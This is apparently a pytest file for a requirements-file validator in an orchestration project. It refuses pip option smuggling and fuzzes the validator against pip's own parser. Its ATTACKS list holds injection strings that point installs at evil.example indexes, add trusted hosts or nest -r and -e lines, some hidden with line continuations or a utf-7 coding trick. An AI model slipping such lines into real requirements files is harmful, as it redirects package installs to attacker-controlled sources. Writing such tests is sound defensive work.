"""What `read_requirements` accepts is what pip reads in it: no index, file, host or package that we have not seen."""

import random

import pytest
from packaging.requirements import Requirement
from pip._internal.req.req_file import get_line_parser, preprocess

from diloco_orchestrator.code_archive.requirements import read_requirements
from diloco_orchestrator.errors import ConfigError

HASH = "--hash=sha256:" + "0" * 64
ATTACKS = [
    "--prefer-binary --extra-index-url https://evil.example/simple",
    "--prefer-binary --index-url https://evil.example/simple",
    "--no-index --find-links https://evil.example/files",
    "# note \\\n--extra-index-url https://evil.example/simple",
    "  # note \\\n-r more.txt",
    "--prefer-binary -r more.txt",
    "--prefer-binary -c more.txt",
    "--prefer-binary -e .",
    "--prefer-binary --trusted-host evil.example",
    "--index-url https://pypi.org/simple --extra-index-url https://me:word@host.example/simple",
    "--index-url=https://pypi.org/simple -ihttps://evil.example/simple",
    "--extra-i https://evil.example/simple",
    "torch==2.0 --extra-index-url https://evil.example/simple",
    "torch==2.0 --config-settings a=b",
    "--prefer-bin\\\nary --trusted-host evil.example",
    "-e\\\n .",
    "# -*- coding: utf-7 -*-\ntorch+AAo---extra-index-url https://evil.example/simple",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["", "torch==2.0\n"], ids=["alone", "after a package"])
def test_a_second_option_and_what_does_not_travel_is_refused(attack: str, around: str):
    with pytest.raises(ConfigError) as refused:
        read_requirements(f"{around}{attack}\n".splitlines())
    assert "word" not in str(refused.value)


def as_pip_reads(text: str) -> tuple[list[str], list[tuple[str, object]]]:
    """Packages and options, by pip's own parser. Raises what it raises."""
    parse, packages, options = get_line_parser(None), [], []
    for _, line in preprocess(text):
        args, found = parse(line)
        if args:
            packages.append(str(Requirement(args)))
        given = {name: value for name, value in vars(found).items() if value and not (args and name == "hashes")}
        if not (found.format_control.no_binary or found.format_control.only_binary):
            given.pop("format_control")  # pip's default is an object
        options += given.items()
    return packages, options


PIECES = [
    "torch==2.0", f"numpy==1.0 {HASH}", "einops ; python_version > '3'", "--prefer-binary", "--no-index", "-r x.txt",
    "--index-url https://a.example/s", "-i https://b.example/s", "--extra-index-url=https://c.example/s", "-e .",
    "--find-links https://d.example", "--trusted-host e.example", "--no-binary :all:", "--only-binary=torch", "-c y",
    "# note", "#", HASH, "--require-hashes", "--pre", '"', "'", "--hash", "-", "--",
]  # fmt: skip
BETWEEN = ["\n", "\n", "\n", " ", " \\\n", "\\\n", "\t", "  ", " # ", " #x \\\n", "\x0c", "\u2028", "=", "\r\n"]
# By pip's names. Values of the lists add up over lines; each line of ours is one option.
ALLOWED = {"index_url", "extra_index_urls", "no_index", "find_links", "format_control", "prefer_binary"}


def generated(seed: int) -> str:
    rng = random.Random(seed)
    text = rng.choice(PIECES)
    for _ in range(rng.randint(0, 5)):
        text += rng.choice(BETWEEN) + rng.choice(PIECES)
    return text + rng.choice(["", "\n", "\\"])


def test_what_is_accepted_is_what_pip_reads():
    accepted = 0
    for seed in range(5000):
        text = generated(seed)
        try:
            ours = read_requirements([text])
        except ConfigError:
            continue
        assert ours is not None
        accepted += 1
        packages, options = as_pip_reads(ours.text)
        assert packages == [str(each) for each in ours.packages], text
        assert len(options) == len(ours.options), text
        assert {name for name, _ in options} <= ALLOWED, text
        further = any(name in ("extra_index_urls", "find_links") for name, _ in options)
        assert ours.hashed or not further, text
    assert accepted > 200
